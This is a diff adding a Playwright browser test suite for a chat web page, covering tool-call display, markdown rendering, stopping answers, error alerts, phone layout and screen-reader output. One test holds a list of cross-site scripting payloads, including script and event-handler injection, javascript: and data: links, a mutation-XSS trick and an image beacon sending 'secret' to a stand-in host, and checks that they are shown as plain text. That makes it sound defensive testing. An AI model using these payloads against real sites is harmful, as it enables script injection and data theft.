@@ -1,0 +1,243 @@
+"""The chat page in a real Chromium, against a real server, under its real policy."""
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from browser.conftest import Watched, new_context
+from gateway.server_process import Served, served
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+QUESTION = "What is the weather in Paris?"
+MARKDOWN = """
+# Heading
+
+Some **bold**, *slanted* and `code` text, a [link](https://example.org/a) and [mail](mailto:a@example.org).
+
+1. one
+2. two
+   - inner
+
+| a | b |
+|---|--:|
+| 1 | 2 |
+
+```python
+print("<b>not bold</b>")
+```
+
+> quoted &amp; decoded
+"""
+HOSTILE = """
+<script>alert(1)</script>
+
+<img src=x onerror=alert(2)> <svg onload=alert(3)> <iframe src="javascript:alert(4)"></iframe>
+
+[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](data:text/html,<script>alert(7)</script>) [d](vbscript:x)
+[e](&#106;avascript:alert(8)) [f]( javascript:alert(9)) [g](//evil.example/x) [h](/web/app.js)
+
+![stolen](https://evil.example/?d=secret) <a href="https://evil.example" onclick="alert(10)">x</a>
+
+<style>body{background:url(https://evil.example/b)}</style> <form action="https://evil.example"><input></form>
+
+`<img src=x onerror=alert(11)>`
+
+```html
+<script>alert(12)</script>
+```
+
+<math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>
+
+Harmless end.
+"""
+
+
+def _turn(text: str) -> str:
+    return f"[[script]]\ntext = {json.dumps(text)}\n"
+
+
+def test_a_question_is_answered_with_the_help_of_a_tool(watched: Watched, shots: Path) -> None:
+    """The card shows the call and, unfolded, arguments and result; the answer is text."""
+    page = watched.open()
+    expect(page).to_have_title("Treadle")
+    page.get_by_role("button", name=QUESTION).click()
+    card = page.locator("details.tool")
+    expect(card).to_have_attribute("data-state", "done")
+    expect(card.locator(".name")).to_have_text("get_weather")
+    expect(page.locator(".prose")).to_contain_text("Paris")
+    expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+    expect(card.locator("pre").first).to_be_hidden()
+    card.locator("summary").click()
+    expect(card.locator("pre").first).to_have_text(re.compile(r'"city":\s*"Paris"'))
+    expect(card.locator("pre").last).to_have_text(re.compile(r'"temperature_c"'))
+    page.screenshot(path=shots / "chat.png")
+
+
+def test_a_conversation_goes_on(watched: Watched) -> None:
+    """The second question continues the first response."""
+    page = watched.open()
+    bodies: list[dict[str, str]] = []
+    page.on("request", lambda request: bodies.append(request.post_data_json) if request.method == "POST" else None)
+    watched.ask(QUESTION)
+    expect(page.get_by_role("button", name="Copy answer")).to_have_count(1)
+    watched.ask("Add 2 and 3")
+    expect(page.get_by_role("button", name="Copy answer")).to_have_count(2)
+    expect(page.locator(".prose").last).to_contain_text("5")
+    assert "previous_response_id" not in bodies[0]
+    assert bodies[1]["previous_response_id"].startswith("resp_")
+    assert bodies[1]["model"] == "demo"
+
+
+def test_chats_are_listed_and_kept_apart(watched: Watched) -> None:
+    """A new chat begins empty; the old one is still there to go back to."""
+    page = watched.open()
+    watched.ask(QUESTION)
+    expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+    page.get_by_role("navigation").get_by_role("button", name="New chat").first.click()
+    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
+    page.get_by_role("navigation").get_by_role("button", name=QUESTION).click()
+    expect(page.locator(".question")).to_have_text(QUESTION)
+    expect(page.locator(".prose")).to_contain_text("Paris")
+
+
+def test_keys_send_break_lines_and_stop(browser: Browser, tmp_path: Path) -> None:
+    """Shift-Enter begins a line, Enter sends, Esc stops; the server's run ends as cancelled and can be continued."""
+    with served(tmp_path, delay_s=0.4) as server:
+        context = new_context(browser)
+        seen = Watched(context.new_page(), server)
+        page = seen.open()
+        field = page.get_by_label("Your question")
+        field.fill("What is the weather")
+        page.keyboard.press("Shift+Enter")
+        page.keyboard.type("in Paris?")
+        expect(field).to_have_value("What is the weather\nin Paris?")
+        page.keyboard.press("Enter")
+        expect(field).to_have_value("")
+        expect(page.locator("details.tool")).to_be_visible()
+        page.keyboard.press("Escape")
+        expect(page.get_by_text("You stopped this answer.")).to_be_visible()
+        with server.connect() as connection:
+            connection.request("GET", "/treadle/v1/runs?status=cancelled")
+            assert len(json.loads(connection.getresponse().read())["runs"]) == 1
+        seen.ask("Add 2 and 3")
+        page.get_by_role("button", name="Stop").click()
+        expect(page.get_by_text("You stopped this answer.")).to_have_count(2)
+        expect(page.get_by_role("button", name="Try again")).to_have_count(1)
+        context.close()
+        assert (seen.complaints, seen.strays) == ([], [])
+
+
+def test_markdown_becomes_elements(browser: Browser, tmp_path: Path) -> None:
+    """Headings, lists, tables, code with a copy button, links to the web and to mail."""
+    with served(tmp_path, script=_turn(MARKDOWN)) as server:
+        context = new_context(browser)
+        context.grant_permissions(["clipboard-read", "clipboard-write"])
+        seen = Watched(context.new_page(), server)
+        page = seen.open()
+        seen.ask("show me")
+        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+        prose = page.locator(".prose")
+        expect(prose.get_by_role("heading", name="Heading")).to_be_visible()
+        expect(prose.locator("strong")).to_have_text("bold")
+        expect(prose.locator("ol > li")).to_have_count(2)
+        expect(prose.locator("ol ul > li")).to_have_text("inner")
+        expect(prose.locator("td.align-right")).to_have_text("2")
+        expect(prose.locator("blockquote")).to_have_text("quoted & decoded")
+        expect(prose.locator("figure.code code")).to_have_text('print("<b>not bold</b>")')
+        hrefs = [link.get_attribute("href") for link in prose.locator("a").all()]
+        assert hrefs == ["https://example.org/a", "mailto:a@example.org"]
+        page.get_by_role("button", name="Copy", exact=True).click()
+        expect(page.get_by_role("button", name="Copied")).to_be_visible()
+        assert page.evaluate("navigator.clipboard.readText()") == 'print("<b>not bold</b>")'
+        context.close()
+        assert (seen.complaints, seen.strays) == ([], [])
+
+
+def test_hostile_text_is_only_text(browser: Browser, tmp_path: Path) -> None:
+    """Nothing runs, nothing is fetched from elsewhere, no element is made of it, and the policy has no work."""
+    with served(tmp_path, script=_turn(HOSTILE)) as server:
+        context = new_context(browser)
+        seen = Watched(context.new_page(), server)
+        page = seen.open()
+        seen.ask("<img src=x onerror=alert(0)>")
+        expect(page.locator(".prose")).to_contain_text("Harmless end.")
+        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+        made = page.locator(".turns").locator(
+            "script, img, svg, iframe, style, form, input, math, [onclick], [onerror]"
+        )
+        expect(made).to_have_count(0)
+        hrefs = [link.get_attribute("href") for link in page.locator(".prose a").all()]
+        assert hrefs == ["https://evil.example/?d=secret"]
+        expect(page.locator(".prose")).to_contain_text("<script>alert(1)</script>")
+        expect(page.locator(".question")).to_have_text("<img src=x onerror=alert(0)>")
+        context.close()
+        assert (seen.complaints, seen.strays) == ([], [])
+
+
+def test_a_failure_says_what_to_do_and_can_be_tried_again(browser: Browser, tmp_path: Path) -> None:
+    """The provider's refusal is shown with advice; the second try succeeds and leaves no trace of the first."""
+    script = '[[script]]\n[script.faults]\nstatus = 429\nmessage = "Too many requests"\n' + _turn("Now it works.")
+    with served(tmp_path, script=script) as server:
+        context = new_context(browser)
+        seen = Watched(context.new_page(), server)
+        page = seen.open()
+        seen.ask("hello")
+        expect(page.get_by_role("alert")).to_contain_text("Too many requests")
+        expect(page.get_by_role("alert")).to_contain_text("Wait a moment")
+        page.get_by_role("button", name="Try again").click()
+        expect(page.locator(".prose")).to_have_text("Now it works.")
+        expect(page.locator(".question")).to_have_count(1)
+        context.close()
+        assert seen.strays == []
+
+
+def test_a_server_that_is_gone_is_said_plainly(browser: Browser, tmp_path: Path) -> None:
+    """A dead server is an alert with advice, not an endless wait."""
+    with served(tmp_path) as server:
+        context = new_context(browser)
+        page = Watched(context.new_page(), server).open()
+        expect(page.get_by_role("combobox")).to_be_visible()
+    page.get_by_label("Your question").fill("hello")
+    page.get_by_role("button", name="Send").click()
+    expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
+    context.close()
+
+
+@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
+def test_a_phone_shows_everything_in_one_column(browser: Browser, server: Served, shots: Path, dark: bool) -> None:
+    """Nothing is wider than the screen, and the list of chats slides in and out."""
+    context = new_context(browser, width=390, height=844, dark=dark)
+    seen = Watched(context.new_page(), server)
+    page = seen.open()
+    expect(page.get_by_role("navigation")).to_be_hidden()
+    page.get_by_role("button", name=QUESTION).click()
+    expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+    page.locator("details.tool summary").click()
+    assert page.evaluate("[document.documentElement.scrollWidth, innerWidth]") == [390, 390]
+    page.screenshot(path=shots / f"phone-{'dark' if dark else 'light'}.png")
+    page.get_by_role("button", name="Conversations").click()
+    expect(page.get_by_role("navigation")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_role("navigation")).to_be_hidden()
+    context.close()
+    assert (seen.complaints, seen.strays) == ([], [])
+
+
+def test_the_screen_reader_hears_sentences(watched: Watched) -> None:
+    """The polite region is told whole sentences of the answer."""
+    page = watched.open()
+    watched.ask(QUESTION)
+    expect(page.locator("[aria-live=polite]")).to_have_text(re.compile(r"^It is .*Paris\.$"))
+
+
+def test_a_wrong_address_leads_back(watched: Watched) -> None:
+    """The page for what is not there is styled and has the way to what is."""
+    page = watched.page
+    page.goto(f"{watched.server.url}/console")
+    watched.complaints.clear()
+    page.get_by_role("link", name="Open the chat").click()
+    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
